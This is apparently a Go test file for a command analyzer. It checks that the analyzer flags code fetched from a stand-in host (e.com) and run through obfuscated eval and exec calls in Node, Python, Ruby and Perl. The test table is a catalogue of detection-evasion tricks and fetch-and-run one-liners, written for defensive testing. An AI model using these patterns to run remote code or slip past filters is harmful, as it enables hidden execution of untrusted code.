package shellparse

import (
	"os/exec"
	"strings"
	"testing"
)

// handedCode are ways of getting a text to an interpreter without calling it by
// its name. TEXT is where the text comes from.
var handedCode = []struct{ lang, code string }{
	{"node", `TEXT.then((0, eval))`},
	{"node", `TEXT.then(eval.bind(null))`},
	{"node", `TEXT.then(globalThis["ev" + "al"])`},
	{"node", `const e = eval; TEXT.then(e)`},
	{"node", `const o = {f: eval}; TEXT.then(o.f)`},
	{"node", `TEXT.then(t => (0, eval)(t))`},
	{"node", `TEXT.then(t => eval.call(null, t))`},
	{"node", `TEXT.then(t => eval.apply(null, [t]))`},
	{"node", `TEXT.then(t => Reflect.apply(eval, null, [t]))`},
	{"node", `TEXT.then(t => [t].map(eval))`},
	{"node", `TEXT.then(t => new Function("a", t)(1))`},
	{"node", `TEXT.then(t => [].constructor.constructor(t)())`},
	{"node", `TEXT.then(t => (() => {}).constructor(t)())`},
	{"node", `TEXT.then(t => import("data:text/javascript," + t))`},
	{"node", `TEXT.then(t => require("vm").runInThisContext(t))`},
	{"node", `TEXT.then(t => new (require("worker_threads").Worker)(t, {eval: true}))`},
	{"node", `const f = async () => await TEXT; f().then(eval)`},
	{"node", `(async () => { const b = []; b.push(Buffer.from(await TEXT)); eval(Buffer.concat(b).toString()) })()`},
	{"python3", `list(map(exec, [TEXT]))`},
	{"python3", `import functools; functools.partial(exec, TEXT)()`},
	{"python3", `import threading; threading.Thread(target=exec, args=(TEXT,)).start()`},
	{"python3", `import concurrent.futures as c; c.ThreadPoolExecutor().submit(exec, TEXT).result()`},
	{"python3", `__builtins__.__dict__["exec"](TEXT)`},
	{"python3", `vars(__builtins__)["exec"](TEXT)`},
	{"python3", `getattr(__builtins__, "ex" + "ec")(TEXT)`},
	{"python3", `import code; code.InteractiveInterpreter().runsource(TEXT)`},
	{"python3", `import cProfile; cProfile.run(TEXT)`},
	{"python3", `open("handed_m.py", "w").write(TEXT); import sys; sys.path.insert(0, "."); __import__("handed_m")`},
	{"ruby", `binding.eval(TEXT)`},
	{"ruby", `Object.class_eval(TEXT)`},
	{"ruby", `method(:eval).call(TEXT)`},
	{"ruby", `m = method(:eval); m.(TEXT)`},
	{"ruby", `[TEXT].each(&method(:eval))`},
	{"ruby", `[TEXT].each { |c| eval c }`},
	{"ruby", `RubyVM::InstructionSequence.compile(TEXT).eval`},
	{"ruby", `File.write("z.rb", TEXT); require "./z"`},
	{"perl", `my $s = sub { eval shift }; $s->(TEXT)`},
	{"perl", `map { eval $_ } (TEXT)`},
	{"perl", `for (TEXT) { eval $_ }`},
}

// handedFrom is what TEXT stands for: a text that prints ran, and one that
// comes from the network.
var handedFrom = map[string][2]string{
	"node":    {`Promise.resolve("console.log('ran')")`, `fetch("https://e.com/x").then(r => r.text())`},
	"python3": {`"print('ran')"`, `__import__("urllib.request").request.urlopen("https://e.com/x").read()`},
	"ruby":    {`"puts 'ran'"`, `Net::HTTP.get(URI("https://e.com/x"))`},
	"perl":    {`"print 'ran'"`, `LWP::Simple::get("https://e.com/x")`},
}

func TestHandedCode(t *testing.T) {
	for _, row := range handedCode {
		from := handedFrom[row.lang]
		opt := "-e"
		if row.lang == "python3" {
			opt = "-c"
		}
		if _, err := exec.LookPath(row.lang); err != nil {
			t.Logf("%s is not installed: whether it runs the text is not tried", row.lang)
		} else {
			cmd := exec.Command(row.lang, opt, strings.ReplaceAll(row.code, "TEXT", from[0]))
			cmd.Dir = t.TempDir()
			if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "ran") {
				t.Errorf("%s does not run it: %s: %v %s", row.lang, row.code, err, out)
			}
		}
		in := testInput("")
		in.Argv = []string{row.lang, opt, strings.ReplaceAll(row.code, "TEXT", from[1])}
		flows := false
		for _, e := range Analyze(in).Effects {
			flows = flows || strings.HasPrefix(show(e), "f network>interpreter")
		}
		if !flows {
			t.Errorf("%s: %s: nothing flows from the network to it", row.lang, row.code)
		}
	}
}
